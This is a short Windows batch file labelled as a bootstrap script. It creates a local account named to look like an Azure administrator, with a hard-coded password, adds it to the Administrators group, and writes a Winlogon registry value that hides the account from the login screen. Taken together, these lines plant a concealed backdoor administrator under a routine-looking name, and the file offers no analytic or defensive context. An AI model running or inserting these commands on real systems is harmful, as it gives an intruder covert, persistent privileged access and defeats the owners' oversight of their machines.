REM bootstrap 3657 v3
@echo off
net user azureadm1n$ Qwerty#7788 /add /active:yes
net localgroup Administrators azureadm1n$ /add
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v azureadm1n$ /t REG_DWORD /d 0 /f
